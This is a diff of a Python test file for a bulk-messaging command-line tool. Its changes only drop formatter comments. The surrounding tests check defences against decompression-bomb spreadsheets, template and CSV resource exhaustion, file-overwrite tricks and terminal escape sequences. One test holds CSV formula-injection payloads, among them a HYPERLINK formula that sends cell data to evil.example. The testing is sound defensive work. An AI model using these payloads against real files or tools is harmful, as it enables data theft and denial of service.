@@ -30,7 +30,7 @@ def test_nested_repetition_is_stopped_small_and_fast(
 ) -> None:
     contacts = write_csv(PEOPLE)
     ran = run_cli(["send", str(contacts), "-m", source, *DRY], cwd=tmp_path,
-                  env=cli_env(tmp_path / "home"))  # fmt: skip
+                  env=cli_env(tmp_path / "home"))
     assert ran.code == 2, ran.out
     assert "--message: the template was stopped at row 2" in ran.out
     assert "over 65,536 characters" in ran.out
@@ -44,13 +44,13 @@ def test_nested_repetition_is_stopped_small_and_fast(
     "{{ dict(a=1)|tojson(indent=10**9) }}",  # was: 32 s and 3 GB, stopped only by the result
     "{{ dict(a=[1])|tojson(10**8) }}",
     "{{ dict(a=1)|tojson(indent='y'*10**4) }}",
-])  # fmt: skip
+])
 def test_a_huge_json_indent_is_stopped_before_it_is_built(
     source: str, tmp_path: Path, write_csv: Callable[..., Path]
 ) -> None:
     contacts = write_csv(PEOPLE)
     ran = run_cli(["send", str(contacts), "-m", source, *DRY], cwd=tmp_path,
-                  env=cli_env(tmp_path / "home"))  # fmt: skip
+                  env=cli_env(tmp_path / "home"))
     assert ran.code == 2, ran.out
     assert "for |tojson is over 16" in ran.out, ran.out
     assert ran.seconds < 5 and ran.peak_mb < 500, (ran.seconds, ran.peak_mb)
@@ -71,7 +71,7 @@ def test_results_never_replace_an_input(
     config.write_text('pace = "fast"\n', encoding="utf-8")
     (tmp_path / "sub").mkdir()
     results = {"template": "message.txt", "suppress": "optout.csv", "config": "config.csv",
-               "symlink": "link.csv", "dotdot": "sub/../optout.csv"}[target]  # fmt: skip
+               "symlink": "link.csv", "dotdot": "sub/../optout.csv"}[target]
     if target == "config":
         config = config.rename(tmp_path / "config.csv")  # TOML under any name is read
     if target == "symlink":
@@ -79,7 +79,7 @@ def test_results_never_replace_an_input(
     before = {p: p.read_bytes() for p in (template, optout, config)}
     ran = run_cli(["send", str(contacts), "-t", "message.txt", "--suppress", "optout.csv",
                    "--config", config.name, "--dry-run", "--results", results],
-                  cwd=tmp_path, env=cli_env(tmp_path / "home"))  # fmt: skip
+                  cwd=tmp_path, env=cli_env(tmp_path / "home"))
     assert ran.code == 2, ran.out
     what = {"template": "the template", "config": "the config file"}.get(target, "an opt-out list")
     assert f"--results {results} is {what}" in ran.out
@@ -94,7 +94,7 @@ def test_the_results_preview_page_never_replaces_the_template(
     template = tmp_path / "out.preview.html"  # what --results out.csv writes its preview to
     template.write_text("Hi {{ name }}", encoding="utf-8")
     ran = run_cli(["send", str(contacts), "-t", template.name, *DRY], cwd=tmp_path,
-                  env=cli_env(tmp_path / "home"))  # fmt: skip
+                  env=cli_env(tmp_path / "home"))
     assert ran.code == 2, ran.out  # was: exit 0, the template replaced by the preview page
     assert "would write its preview page out.preview.html over the template" in ran.out
     assert template.read_text(encoding="utf-8") == "Hi {{ name }}"
@@ -108,7 +108,7 @@ def test_an_empty_opt_out_list_is_never_made_the_progress_file(
     optout.write_bytes(b"")  # an opt-out list with nobody on it yet
     ran = run_cli(["send", str(contacts), "-m", "Hi", "--suppress", optout.name, "--state",
                    optout.name, "--sandbox", "--yes", "--pace", "fast", "--results", "out.csv"],
-                  cwd=tmp_path, env=cli_env(tmp_path / "home"))  # fmt: skip
+                  cwd=tmp_path, env=cli_env(tmp_path / "home"))
     assert ran.code == 2, ran.out  # was: exit 0, the list turned into a 28 KB SQLite file
     assert "--state optout.csv is an opt-out list (--suppress)" in ran.out
     assert optout.read_bytes() == b""
@@ -148,12 +148,12 @@ def _workbook(path: Path, extra_rows: str = "", strings: int = 0, claimed: int =
     """A two-row contacts sheet, plus `extra_rows`, plus one shared string of `strings` bytes."""
     rows = (f'<row r="1">{_cell("A1", "Name")}{_cell("B1", "Phone")}</row>'
             f'<row r="2">{_cell("A2", "Dana")}{_cell("B2", "0502345678")}'
-            '<c r="C2" t="s"><v>0</v></c></row>' + extra_rows)  # fmt: skip
+            '<c r="C2" t="s"><v>0</v></c></row>' + extra_rows)
     with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
         for name, text in _PARTS.items():
             z.writestr(name, text)
         z.writestr("xl/worksheets/sheet1.xml", f'<?xml version="1.0"?><worksheet {_NS}>'
-                   f"<sheetData>{rows}</sheetData></worksheet>")  # fmt: skip
+                   f"<sheetData>{rows}</sheetData></worksheet>")
         with z.open("xl/sharedStrings.xml", "w", force_zip64=True) as part:
             part.write(f'<sst {_NS} count="{claimed}" uniqueCount="{claimed}"><si><t>'.encode())
             for _ in range(strings >> 20):
@@ -167,7 +167,7 @@ def _workbook(path: Path, extra_rows: str = "", strings: int = 0, claimed: int =
     ("CV1000000", "is used down to cell CV1000000"),
     ("300 MB string", "holds more than 1 MB of text"),
     ("4e9 strings", "claim 4,000,000,000 entries"),
-])  # fmt: skip
+])
 def test_a_small_workbook_that_unpacks_huge_is_exit_2(
     attack: str, message: str, tmp_path: Path
 ) -> None:
@@ -181,7 +181,7 @@ def test_a_small_workbook_that_unpacks_huge_is_exit_2(
         _workbook(contacts, f'<row r="{row}">{_cell(attack, "x")}</row>')
     assert contacts.stat().st_size < 400_000
     ran = run_cli(["send", str(contacts), "-m", "Hi {{ name }}", *DRY], cwd=tmp_path,
-                  env=cli_env(tmp_path / "home"))  # fmt: skip
+                  env=cli_env(tmp_path / "home"))
     assert ran.code == 2, ran.out  # not 134 (calamine's allocation failure aborts the process)
     assert "contacts.xlsx: " in ran.out and message in ran.out
     assert "export the contacts as CSV" in ran.out
@@ -192,7 +192,7 @@ def test_a_small_workbook_that_unpacks_huge_is_exit_2(
 def test_a_workbook_within_the_limits_still_loads(tmp_path: Path) -> None:
     contacts = _workbook(tmp_path / "contacts.xlsx", strings=1 << 19)  # a 512 KB string: fine
     ran = run_cli(["send", str(contacts), "-m", "Hi {{ name }}", *DRY], cwd=tmp_path,
-                  env=cli_env(tmp_path / "home"))  # fmt: skip
+                  env=cli_env(tmp_path / "home"))
     assert ran.code == 0, ran.out
 
 
@@ -203,12 +203,12 @@ def test_csv_results_cells_never_run_as_formulas(
     tmp_path: Path, write_csv: Callable[..., Path]
 ) -> None:
     attacks = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1,1)",
-               "\t=1+1", "\r=1+1"]  # fmt: skip
+               "\t=1+1", "\r=1+1"]
     rows = [["Name", "Phone", "Note"], *([f"Dana{i}", f"+972 50 234 56{i:02d}", attack]
-                                         for i, attack in enumerate(attacks))]  # fmt: skip
+                                         for i, attack in enumerate(attacks))]
     contacts = write_csv(rows)
     ran = run_cli(["send", str(contacts), "-m", "{{ note }}", *DRY], cwd=tmp_path,
-                  env=cli_env(tmp_path / "home"))  # fmt: skip
+                  env=cli_env(tmp_path / "home"))
     assert ran.code == 0, ran.out
     got = read_results(tmp_path / "out.csv")
     assert [r["Note"] for r in got] == ["'" + a for a in attacks]
@@ -221,7 +221,7 @@ def test_only_our_own_temp_files_are_removed(
 ) -> None:
     contacts = write_csv(PEOPLE)
     others = [".out.tmp", ".out-notes.tmp", ".out.csv.backup.tmp", ".outline.tmp",
-              ".out.csv.12.secret-draft.tmp"]  # fmt: skip
+              ".out.csv.12.secret-draft.tmp"]
     for name in others:
         (tmp_path / name).write_text("someone else's")
     stale = tmp_path / ".out.csv.4194999.k2j4x9ab.tmp"  # ours, its writer long gone
@@ -229,7 +229,7 @@ def test_only_our_own_temp_files_are_removed(
     env = cli_env(tmp_path / "home", sandbox_env["IBOT_BASE_URL"])
     ran = run_cli(["send", str(contacts), "-m", "Hi", "--yes", "--pace", "fast", "--delay", "0",
                    "--jitter", "0", "--window", "any", "--quiet", "--results", "out.csv"], cwd=tmp_path,
-                  env=env)  # fmt: skip
+                  env=env)
     assert ran.code == 0, ran.out
     assert all((tmp_path / name).exists() for name in others)
     assert not stale.exists()
@@ -243,7 +243,7 @@ def test_only_our_own_temp_files_are_removed(
     ("--state", "fifo", "--state"),
     (".env", "fifo", "the credentials file"),
     ("--suppress", "fifo", "optout.csv is a pipe (FIFO)"),
-])  # fmt: skip
+])
 def test_special_files_are_refused_not_read(
     option: str, special: str, label: str, tmp_path: Path, write_csv: Callable[..., Path]
 ) -> None:
@@ -270,9 +270,9 @@ def test_a_cell_longer_than_any_message_makes_its_row_invalid_not_the_campaign(
     results: str, tmp_path: Path, write_csv: Callable[..., Path]
 ) -> None:
     contacts = write_csv([["Name", "Phone", "Note"], ["Dana", "0502345678", "x" * 70_000],
-                          ["Avi", "0502345679", "y" * 40_000], ["Noa", "0502345670", "short"]])  # fmt: skip
+                          ["Avi", "0502345679", "y" * 40_000], ["Noa", "0502345670", "short"]])
     ran = run_cli(["send", str(contacts), "-m", "{{ note }}", "--dry-run", "--results", results],
-                  cwd=tmp_path, env=cli_env(tmp_path / "home"))  # fmt: skip
+                  cwd=tmp_path, env=cli_env(tmp_path / "home"))
     assert ran.code == 0, ran.out
     assert "row 2: invalid: the cell 'Note' holds 70,000 characters" in ran.out
     rows = read_results(tmp_path / results)
@@ -292,7 +292,7 @@ def test_terminal_escapes_in_a_contact_never_reach_the_terminal(
     evil = "Dana\x1b]0;pwned\x07\x1b[2J\x1b[1A\r\x9b31m"
     contacts = write_csv([["Name", "Phone"], [evil, "0502345678"], ["Avi", "not a phone\x1b[2J"]])
     ran = run_cli(["send", str(contacts), "-m", "Hi {{ name }}", *DRY], cwd=tmp_path,
-                  env=cli_env(tmp_path / "home"))  # fmt: skip
+                  env=cli_env(tmp_path / "home"))
     assert ran.code == 0, ran.out
     assert "Hi Dana\\x1b]0;pwned\\x07\\x1b[2J" in ran.out  # shown, escaped
     assert not any(c in ran.out for c in "\x1b\x07\r\x9b")
@@ -309,7 +309,7 @@ EVIL = "x\x1b]0;pwned\x07\x1b[2J\r"
     [EVIL],  # "No such command"
     ["send", "contacts.csv", "--header-row", EVIL],  # "Invalid value"
     ["send", "contacts.csv", "--type", EVIL],
-])  # fmt: skip
+])
 def test_clicks_own_usage_errors_never_print_control_characters(
     args: list[str], tmp_path: Path, write_csv: Callable[..., Path]
 ) -> None:
@@ -326,13 +326,13 @@ def test_clicks_own_usage_errors_never_print_control_characters(
     ("3EB0A1B2C3D4E5F6=xyz", [("#1", "3EB0A1B2C3D4E5F6=xyz")]),  # an ID, not a label
     ("abc==", [("#1", "abc==")]),  # base64 padding
     ("shop=3EB0A1B2C3D4E5F6=xyz,promo=Q", [("shop", "3EB0A1B2C3D4E5F6=xyz"), ("promo", "Q")]),
-])  # fmt: skip
+])
 def test_an_instance_id_holding_an_equals_sign_is_read_by_a_written_rule(
     configured: str, expected: list[tuple[str, str]]
 ) -> None:
     assert [(s.label, s.instance_id) for s in parse_senders(configured, None)] == expected
     assert all(iid not in repr(s) for s, (_, iid) in zip(parse_senders(configured, None), expected,
-                                                          strict=True))  # fmt: skip
+                                                          strict=True))
 
 
 def _ods(path: Path, rows_repeated: int) -> Path:
@@ -340,7 +340,7 @@ def _ods(path: Path, rows_repeated: int) -> Path:
 
     def cell(text: str, extra: str = "") -> str:
         return (f'<table:table-cell{extra} office:value-type="string"><text:p>{text}</text:p>'
-                "</table:table-cell>")  # fmt: skip
+                "</table:table-cell>")
 
     content = (
         '<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:'
@@ -358,14 +358,14 @@ def _ods(path: Path, rows_repeated: int) -> Path:
     )
     with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
         z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet",
-                   compress_type=zipfile.ZIP_STORED)  # fmt: skip
+                   compress_type=zipfile.ZIP_STORED)
         z.writestr("content.xml", content)
         z.writestr("META-INF/manifest.xml", '<?xml version="1.0" encoding="UTF-8"?><manifest:'
                    'manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
                    'manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:'
                    'media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-'
                    'entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
-                   "</manifest:manifest>")  # fmt: skip
+                   "</manifest:manifest>")
     return path
 
 
@@ -377,7 +377,7 @@ def test_an_ods_row_repeated_900000_times_is_exit_2(
     assert contacts.stat().st_size < 2000
     ran = run_cli(["send", str(contacts), "-m", "Hi {{ name }}", "--header-row", "1", *DRY],
                   cwd=tmp_path,
-                  env=cli_env(tmp_path / "home"))  # fmt: skip
+                  env=cli_env(tmp_path / "home"))
     assert ran.code == code, ran.out  # was: 2.5 GB, then an abort (signal 6)
     if code == 2:
         assert "is used down to cell CV900002" in ran.out
@@ -388,9 +388,9 @@ def test_a_csv_cell_past_the_csv_modules_own_limit_is_still_only_its_rows_proble
     tmp_path: Path, write_csv: Callable[..., Path]
 ) -> None:
     contacts = write_csv([["Name", "Phone", "Note"], ["Dana", "0502345678", "x" * 200_000],
-                          ["Noa", "0502345670", "short"]])  # fmt: skip
+                          ["Noa", "0502345670", "short"]])
     ran = run_cli(["send", str(contacts), "-m", "{{ note }}", *DRY], cwd=tmp_path,
-                  env=cli_env(tmp_path / "home"))  # fmt: skip
+                  env=cli_env(tmp_path / "home"))
     assert ran.code == 0, ran.out  # was: exit 2, "field larger than field limit (131072)"
     limit = csv.field_size_limit(1 << 20)  # to read the results here, as a spreadsheet would
     try:
@@ -419,7 +419,7 @@ HUGE_CSV: dict[str, Callable[[Path], object]] = {
 SAID = {"one 1 GB line": "is 1,024 MB, more than this tool reads (64 MB",
         "a quote left open": "holds more than 1 MB of text",
         "2.1 million empty lines": "more than 1,000,000 rows",
-        "a million and one rows": "more than 1,000,000 rows"}  # fmt: skip
+        "a million and one rows": "more than 1,000,000 rows"}
 
 
 @pytest.mark.parametrize("attack", list(HUGE_CSV))
@@ -427,7 +427,7 @@ def test_a_huge_csv_is_exit_2_small_and_fast(attack: str, tmp_path: Path) -> Non
     contacts = tmp_path / "contacts.csv"
     HUGE_CSV[attack](contacts)
     ran = run_cli(["send", str(contacts), "-m", "Hi {{ Name }}", "--country", "IL", *DRY],
-                  cwd=tmp_path, env=cli_env(tmp_path / "home"))  # fmt: skip
+                  cwd=tmp_path, env=cli_env(tmp_path / "home"))
     # was: 1 GB read whole (a 100 MB line took 891 MB); 10 million empty lines 58 s and 836 MB
     assert ran.code == 2, ran.out
     assert SAID[attack] in ran.out and "Traceback" not in ran.out, ran.out
@@ -439,7 +439,7 @@ def test_the_empty_rows_excel_exports_to_its_last_row_are_still_read(tmp_path: P
     contacts = tmp_path / "contacts.csv"
     contacts.write_text("Name,Phone\nDana,0502345678\n" + ",\n" * 1_048_000)
     ran = run_cli(["send", str(contacts), "-m", "Hi {{ Name }}", "--country", "IL", *DRY],
-                  cwd=tmp_path, env=cli_env(tmp_path / "home"))  # fmt: skip
+                  cwd=tmp_path, env=cli_env(tmp_path / "home"))
     assert ran.code == 0, ran.out
     assert [r["status"] for r in read_results(tmp_path / "out.csv")] == ["ready"]
     assert ran.seconds < 20 and ran.peak_mb < 500, (ran.seconds, ran.peak_mb)
@@ -460,7 +460,7 @@ def test_a_small_xls_with_a_far_cell_is_exit_2(
     book.save(str(contacts))
     assert contacts.stat().st_size < 10_000
     ran = run_cli(["send", str(contacts), "-m", "Hi {{ Name }}", "--country", "IL", *DRY],
-                  cwd=tmp_path, env=cli_env(tmp_path / "home"))  # fmt: skip
+                  cwd=tmp_path, env=cli_env(tmp_path / "home"))
     assert ran.code == code, ran.out  # was: 1.2 GB and 9 s for a 5.6 KB file
     if code == 2:
         assert "is used down to cell IV65536" in ran.out and "Traceback" not in ran.out
@@ -476,31 +476,31 @@ def _many_sheets(path: Path, sheets: int, rows: int) -> Path:
     one = f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kind}"/>'
     parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(one, "".join(
         f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="{kind}"/>'
-        for i in range(1, sheets + 2)))  # fmt: skip
+        for i in range(1, sheets + 2)))
     parts["xl/workbook.xml"] = (
         f'<?xml version="1.0"?><workbook {_NS} xmlns:r="http://schemas.openxmlformats.org/'
         'officeDocument/2006/relationships"><sheets>'
         + "".join(f'<sheet name="S{i}" sheetId="{i}" r:id="rId{i}"/>' for i in range(1, sheets + 2))
-        + "</sheets></workbook>")  # fmt: skip
+        + "</sheets></workbook>")
     relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
     parts["xl/_rels/workbook.xml.rels"] = (
         '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
         '2006/relationships">' + "".join(f'<Relationship Id="rId{i}" Type="{relation}" '
                                          f'Target="worksheets/sheet{i}.xml"/>'
                                          for i in range(1, sheets + 2))
-        + "</Relationships>")  # fmt: skip
+        + "</Relationships>")
     far = "".join(f'<row r="{n}"><c r="AW{n}"><v>1</v></c></row>' for n in range(3, rows + 1))
     with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
         for name, text in parts.items():
             z.writestr(name, text)
         z.writestr("xl/worksheets/sheet1.xml", f'<?xml version="1.0"?><worksheet {_NS}><sheetData>'
                    f'<row r="1">{_cell("A1", "Notes")}</row><row r="2">{_cell("A2", "hi")}</row>'
-                   "</sheetData></worksheet>")  # fmt: skip
+                   "</sheetData></worksheet>")
         for i in range(2, sheets + 2):
             z.writestr(f"xl/worksheets/sheet{i}.xml", f'<?xml version="1.0"?><worksheet {_NS}>'
                        f'<sheetData><row r="1">{_cell("A1", "Name")}{_cell("B1", "Phone")}</row>'
                        f'<row r="2">{_cell("A2", "Dana")}{_cell("B2", "0502345678")}</row>{far}'
-                       "</sheetData></worksheet>")  # fmt: skip
+                       "</sheetData></worksheet>")
     return path
 
 
@@ -510,7 +510,7 @@ def test_the_other_sheets_are_searched_within_a_budget(
 ) -> None:
     contacts = _many_sheets(tmp_path / "contacts.xlsx", sheets, rows)
     ran = run_cli(["send", str(contacts), "-m", "Hi {{ Name }}", "--country", "IL", *DRY],
-                  cwd=tmp_path, env=cli_env(tmp_path / "home"))  # fmt: skip
+                  cwd=tmp_path, env=cli_env(tmp_path / "home"))
     # was: six sheets at the size limit (2.9 MB) read and kept whole, 35 s and 810 MB
     assert ran.code == code, ran.out
     if code == 0:  # the one sheet with phones is still found
@@ -527,7 +527,7 @@ def test_a_config_nested_thousands_deep_is_exit_2(
     contacts = write_csv(PEOPLE)
     (tmp_path / "deep.toml").write_text(toml + "\n", encoding="utf-8")
     ran = run_cli(["send", str(contacts), "-m", "Hi", "--config", "deep.toml", *DRY],
-                  cwd=tmp_path, env=cli_env(tmp_path / "home"))  # fmt: skip
+                  cwd=tmp_path, env=cli_env(tmp_path / "home"))
     assert ran.code == 2, ran.out  # was: exit 1, a RecursionError traceback
     assert "--config deep.toml: nested too deeply to read" in ran.out
     assert "Traceback" not in ran.out
@@ -536,14 +536,14 @@ def test_a_config_nested_thousands_deep_is_exit_2(
 def test_a_styles_part_that_unpacks_huge_is_exit_2(tmp_path: Path) -> None:
     contacts = _workbook(tmp_path / "contacts.xlsx")
     with zipfile.ZipFile(contacts, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as z, \
-            z.open("xl/styles.xml", "w", force_zip64=True) as part:  # fmt: skip
+            z.open("xl/styles.xml", "w", force_zip64=True) as part:
         part.write(f'<styleSheet {_NS}><cellXfs count="1">'.encode())
         for _ in range(50):
             part.write(b'<xf numFmtId="14"/>' * 50_000)  # 47 MB in all, a few hundred KB zipped
         part.write(b"</cellXfs></styleSheet>")
     assert contacts.stat().st_size < 1_000_000
     ran = run_cli(["send", str(contacts), "-m", "Hi {{ Name }}", "--country", "IL", *DRY],
-                  cwd=tmp_path, env=cli_env(tmp_path / "home"))  # fmt: skip
+                  cwd=tmp_path, env=cli_env(tmp_path / "home"))
     assert ran.code == 2, ran.out  # was: a 555 KB file took 3.9 GB, then a MemoryError
     assert "its part xl/styles.xml unpacks to more than 32 MB" in ran.out
     assert ran.seconds < 5 and ran.peak_mb < 500, (ran.seconds, ran.peak_mb)
@@ -552,7 +552,7 @@ def test_a_styles_part_that_unpacks_huge_is_exit_2(tmp_path: Path) -> None:
 def test_a_sheet_part_near_its_size_limit_is_read_in_pieces(tmp_path: Path) -> None:
     contacts = tmp_path / "contacts.xlsx"
     rows = (f'<row r="1">{_cell("A1", "Name")}{_cell("B1", "Phone")}</row>'
-            f'<row r="2">{_cell("A2", "Dana")}{_cell("B2", "0502345678")}</row>')  # fmt: skip
+            f'<row r="2">{_cell("A2", "Dana")}{_cell("B2", "0502345678")}</row>')
     with zipfile.ZipFile(contacts, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
         for name, text in _PARTS.items():
             z.writestr(name, text)
@@ -563,7 +563,7 @@ def test_a_sheet_part_near_its_size_limit_is_read_in_pieces(tmp_path: Path) -> N
                 part.write(b"<x/>" * 250_000)  # 250 MB of empty tags, 245 KB zipped
             part.write(b"</worksheet>")
     ran = run_cli(["send", str(contacts), "-m", "Hi {{ Name }}", "--country", "IL", *DRY],
-                  cwd=tmp_path, env=cli_env(tmp_path / "home"))  # fmt: skip
+                  cwd=tmp_path, env=cli_env(tmp_path / "home"))
     assert ran.code == 0, ran.out
     assert [r["status"] for r in read_results(tmp_path / "out.csv")] == ["ready"]
     assert ran.peak_mb < 300, ran.peak_mb  # was: 534 MB, the part read whole for its styles
